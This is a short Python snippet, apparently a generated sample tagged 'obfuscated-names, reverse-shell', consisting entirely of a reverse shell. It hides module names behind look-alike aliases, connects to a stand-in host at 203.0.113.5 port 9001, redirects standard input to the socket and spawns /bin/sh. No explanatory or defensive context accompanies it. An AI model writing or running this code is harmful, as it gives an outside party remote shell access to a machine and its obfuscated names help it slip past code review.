# must: obfuscated-names, reverse-shell
import socket as lIlIlI, os as IlIlIl, pty as O0O0O0
l1l1l1 = lIlIlI.socket(lIlIlI.AF_INET, lIlIlI.SOCK_STREAM)
l1l1l1.connect(("203.0.113.5", 9001))
IlIlIl.dup2(l1l1l1.fileno(), 0)
O0O0O0.spawn("/bin/sh")
